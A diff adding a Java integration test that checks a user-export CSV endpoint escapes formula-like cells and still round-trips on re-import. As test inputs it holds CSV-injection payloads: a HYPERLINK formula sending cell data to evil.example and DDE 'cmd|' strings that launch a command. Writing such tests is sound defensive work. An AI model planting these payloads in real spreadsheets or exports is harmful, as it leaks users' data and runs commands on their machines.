@@ -154,6 +154,47 @@ class UserImportTest {
     }
 
     @Test
+    void exportNeutralisesCellsASpreadsheetWouldRunAsFormulasAndImportingTheExportGivesTheSameValues() throws Exception {
+        String accountId = admin.createAccount("Formulas");
+        String locationId = admin.createLocation(accountId, "America/Chicago");
+        List<String> firstNames = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "Plain");
+        StringBuilder csv = new StringBuilder("firstName,lastName,username,email,extension,locationId,phoneNumber\n");
+        for (int i = 0; i < firstNames.size(); i++) {
+            csv.append('"').append(firstNames.get(i).replace("\"", "\"\"")).append("\",Doe,formula").append(i)
+                    .append(",f").append(i).append("@example.com,").append(70 + i).append(',').append(locationId)
+                    .append(",+1415555010").append(i).append('\n');
+        }
+        assertThat(importCsv(accountId, csv.toString()).json().path("created").asInt()).isEqualTo(5);
+
+        String export = http.get("/api/v1/accounts/" + accountId + "/users:export",
+                Map.of("Authorization", "Bearer " + token)).body();
+        List<Map<String, String>> rows = new java.util.ArrayList<>();
+        try (var it = new com.fasterxml.jackson.dataformat.csv.CsvMapper().readerFor(Map.class)
+                .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader()).readValues(export)) {
+            it.forEachRemaining(row -> rows.add((Map<String, String>) row));
+        }
+        assertThat(rows).hasSize(5);
+        for (Map<String, String> row : rows) {
+            assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
+                    .doesNotStartWith("-").doesNotStartWith("@"));
+        }
+        assertThat(rows).extracting(row -> row.get("firstName")).containsExactlyInAnyOrder(
+                "'" + firstNames.get(0), "'" + firstNames.get(1), "'" + firstNames.get(2), "'" + firstNames.get(3),
+                "Plain");
+        assertThat(rows).extracting(row -> row.get("phoneNumber")).allSatisfy(n -> assertThat(n).startsWith("'+1415"));
+
+        for (JsonNode user : admin.get("/accounts/" + accountId + "/users").json().path("items")) {
+            assertThat(admin.delete("/accounts/" + accountId + "/users/" + user.path("id").asText()).status())
+                    .isEqualTo(204);
+        }
+        assertThat(importCsv(accountId, export).json().path("created").asInt()).isEqualTo(5);
+        JsonNode again = admin.get("/accounts/" + accountId + "/users").json().path("items");
+        assertThat(again.findValuesAsText("firstName")).containsExactlyInAnyOrderElementsOf(firstNames);
+        assertThat(again.findValuesAsText("phoneNumber")).allSatisfy(n -> assertThat(n).startsWith("+1415"));
+    }
+
+    @Test
     void aRowWithSendWelcomeEmailQueuesItsEmailAndNoSecretIsLogged() throws Exception {
         String accountId = admin.createAccount("Welcome");
         String locationId = admin.createLocation(accountId, "America/Chicago");
